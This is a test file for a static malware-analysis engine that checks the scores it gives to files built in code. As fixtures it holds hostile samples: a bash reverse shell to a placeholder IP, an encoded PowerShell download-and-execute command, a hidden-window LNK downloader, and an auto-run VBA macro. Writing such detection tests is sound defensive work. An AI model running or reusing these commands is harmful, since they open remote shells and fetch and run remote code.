import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { analysisSchema, reportSchema } from "@fumehood/contract";
import { buildElf, buildLnk, buildOleWithVba, buildPdf, buildPe, eicar, noise } from "@fumehood/inspect/testing";
import { buildReport } from "@fumehood/report";
import { afterAll, beforeAll, expect, test } from "vitest";
import { analyseBytes, scores } from "./testing/analyse-bytes.ts";
import type { EngineResult } from "./types.ts";

// What the whole engine says of files built in code: from bytes through the real inspector to the analysis. Indicators out of YARA
// rules are left out, as rules are not run on every machine.

let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "engine-"));
});

afterAll(async () => {
  await rm(folder, { recursive: true, force: true });
});

const analyse = (filename: string, bytes: Uint8Array | string, url?: string) =>
  analyseBytes(folder, filename, bytes, url);

/** The analysis without what differs between machines, and without sections that are empty by nature. */
function stable({ analysis }: EngineResult): Record<string, unknown> {
  const { metadata, status, version, versions } = analysis;
  return { version, versions, metadata, status };
}

test("the EICAR test file is malicious by one indicator", async () => {
  const result = await analyse("eicar.txt", eicar());
  expect(scores(result)).toEqual(["eicar-test-file: 95"]);
  expect(result.threatScore).toBeGreaterThanOrEqual(95);
  expect(stable(result)).toMatchInlineSnapshot(`
    {
      "metadata": {
        "general_details": {
          "report_created": 1767323046,
          "sandbox_id": "fumehood",
          "sandbox_version": "static-1.0",
        },
        "malware_desc": [
          {
            "filename": "eicar.txt.com",
            "magic": "EICAR virus test files",
            "md5": "44d88612fea8a8f36de82e1278abb02f",
            "sha1": "3395856ce81f2b7382dee72602f798b642f14140",
            "sha256": "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
            "size": 68,
            "type": "com",
          },
        ],
        "sandcastle_env": {
          "analysis_end": 1767323046,
          "analysis_features": [
            "static",
          ],
          "analysis_start": 1767323045,
          "display_name": "Static analysis (the sample is not run)",
          "run_time": 0,
          "vm": "static",
          "vm_id": "0123456789abcdef0123456789abcdef",
        },
      },
      "status": {
        "analysis_started_at": 1767323045,
        "analysis_submitted_at": 1767323044,
        "id": "0123456789abcdef0123456789abcdef",
        "md5": "44d88612fea8a8f36de82e1278abb02f",
        "options": [],
        "origin": "static",
        "original_filename": "eicar.txt",
        "playbook": "default",
        "queue": "NA",
        "ran": false,
        "sha1": "3395856ce81f2b7382dee72602f798b642f14140",
        "sha256": "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
        "state": "proc",
        "status": "Updating analysis status",
        "tags": [],
        "vm": "",
        "vm_runtime": 0,
      },
      "version": 4,
      "versions": {
        "static_engine": "1.0",
        "version": "4.0",
      },
    }
  `);
});

test("a packed program that injects code is suspicious", async () => {
  const program = buildPe({
    bits: 64,
    code: noise(16_384),
    imports: {
      "KERNEL32.dll": [
        "VirtualAllocEx",
        "WriteProcessMemory",
        "CreateRemoteThread",
        "ExitProcess",
        "Sleep",
        "GetTickCount",
      ],
    },
    timestamp: 1_600_000_000,
  });
  const result = await analyse("tool.exe", program);
  expect(scores(result)).toMatchInlineSnapshot(`
    [
      "pe-packed-injector: 60",
      "pe-process-injection-api: 42",
      "pe-packed-section: 21",
      "pe-no-version-info: 6",
      "pe-unsigned: 2",
    ]
  `);
  expect(result.analysis.artifacts?.["1"]?.forensics).toMatchObject({
    headers: { pe: { timestamp: 1_600_000_000, optional_header: { magic: "PE32+" } } },
    sections: [{ name: ".text" }, { name: ".rdata" }],
  });
});

test("an ordinary program is clean", async () => {
  const program = buildPe({
    bits: 64,
    imports: { "KERNEL32.dll": ["GetStdHandle", "WriteFile", "ExitProcess", "HeapAlloc", "HeapFree", "GetLastError"] },
    versionInfo: { CompanyName: "Example", ProductName: "Tool", OriginalFilename: "tool.exe" },
    timestamp: 1_600_000_000,
    hasRightChecksum: true,
  });
  const result = await analyse("tool.exe", program);
  expect(scores(result)).toMatchInlineSnapshot(`
    [
      "pe-unsigned: 2",
    ]
  `);
  expect(result.threatScore).toBeLessThan(30);
});

test("a shell script that opens a reverse shell is malicious", async () => {
  const script = "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n";
  const result = await analyse("run.sh", script);
  expect(scores(result)).toMatchInlineSnapshot(`
    [
      "script-reverse-shell: 85",
    ]
  `);
  expect(result.indicators.find(({ ioc }) => ioc === "script-reverse-shell")?.data).toEqual([
    {
      Artifact_ID: 1,
      Path: "run.sh",
      Value: expect.stringContaining("/dev/tcp/"),
      Offset: expect.any(Number),
      Decoding_Layer: 0,
    },
  ]);
});

test("PowerShell that downloads and runs hidden code out of an encoded command is malicious", async () => {
  const inner = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", "utf16le");
  const result = await analyse("run.ps1", `powershell.exe -NoP -W Hidden -Enc ${inner.toString("base64")}\n`);
  expect(result.threatScore).toBeGreaterThanOrEqual(85);
  expect(result.extracted.map(({ type }) => type)).toContain("ps1");
  expect(result.analysis["static"]).toMatchObject({
    strings: expect.arrayContaining([{ value: "http://198.51.100.7/a.ps1", offset: 0, encoding: "decoded" }]),
  });
});

test("a document whose macro starts a command by itself is malicious", async () => {
  const code = 'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "cmd /c calc"\r\nEnd Sub\r\n';
  const result = await analyse("invoice.doc", buildOleWithVba({ modules: { NewMacros: code } }));
  expect(scores(result)).toMatchInlineSnapshot(`
    [
      "macro-runs-command: 85",
      "macro-auto-execution: 40",
      "macro-execution: 38",
      "document-macro: 20",
      "script-execution: 5",
    ]
  `);
  expect(result.extracted.map(({ name, type }) => ({ name, type }))).toMatchInlineSnapshot(`
    [
      {
        "name": "Macros/VBA/NewMacros.vba",
        "type": "vba",
      },
    ]
  `);
  expect(result.threatScore).toBeGreaterThanOrEqual(85);
});

test("a shortcut that downloads behind a hidden window is malicious", async () => {
  const lnk = buildLnk({
    localPath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    arguments: "-w hidden -c iwr http://198.51.100.7/a.exe -o $env:TEMP\\a.exe; start $env:TEMP\\a.exe",
  });
  const result = await analyse("invoice.pdf.lnk", lnk);
  expect(scores(result)).toMatchInlineSnapshot(`
    [
      "lnk-hidden-downloader: 85",
      "lnk-remote-command: 76",
      "name-double-extension: 59",
      "lnk-hidden-window: 48",
      "lnk-starts-interpreter: 42",
    ]
  `);
});

test("a document that starts a program is suspicious, one with text is clean", async () => {
  const launching = await analyse("a.pdf", buildPdf({ launch: "calc.exe" }));
  expect(scores(launching)).toContain("pdf-launch: 72");
  const plain = await analyse("b.pdf", buildPdf({ uris: ["https://www.example.com/"] }));
  expect(scores(plain)).toEqual([]);
});

test("an ordinary program of Linux is clean", async () => {
  const result = await analyse(
    "tool",
    buildElf({ interpreter: "/lib64/ld-linux-x86-64.so.2", needed: ["libc.so.6"], importedSymbols: ["puts"], type: 3 }),
  );
  expect(scores(result)).toEqual([]);
  expect(result).toMatchObject({ type: "elf", outcome: "complete" });
});

test("a submitted URL is the service's shortcut, digest for digest", async () => {
  const url = "http://www.example.com";
  const result = await analyse("www.example.com_.url", `[InternetShortcut]\nURL=${url}\n`, url);
  expect(result).toMatchObject({ type: "url", threatScore: 0, sizeBytes: 46 });
  expect(result.digests.md5).toBe("0c9da14ac3a8cb360c7c9d525d11424e");
});

test("unknown data is unsupported", async () => {
  const result = await analyse("blob.bin", noise(5000));
  expect(result).toMatchObject({ outcome: "unsupported", status: "filetype_not_supported", type: "" });
});

test.each([
  ["eicar.com", () => eicar()],
  ["tool.exe", () => buildPe({ code: noise(8192) })],
  ["a.pdf", () => buildPdf({ javascript: "app.alert(1)" })],
  ["blob", () => noise(3000)],
])("the analysis of %s passes the contract and makes a whole report", async (name, build) => {
  const { analysis, threatScore } = await analyse(name, build());
  expect(analysisSchema.parse(JSON.parse(JSON.stringify(analysis)))).toEqual(JSON.parse(JSON.stringify(analysis)));
  const report = buildReport({
    target: "sandbox",
    sampleId: "a".repeat(32),
    analysis,
    generatedAt: "2026-01-01T00:00:00.000Z",
  });
  expect(reportSchema.parse(report)).toEqual(report);
  expect(report.verdict.score).toBe(threatScore);
  expect(report.missing).toEqual([]);
});
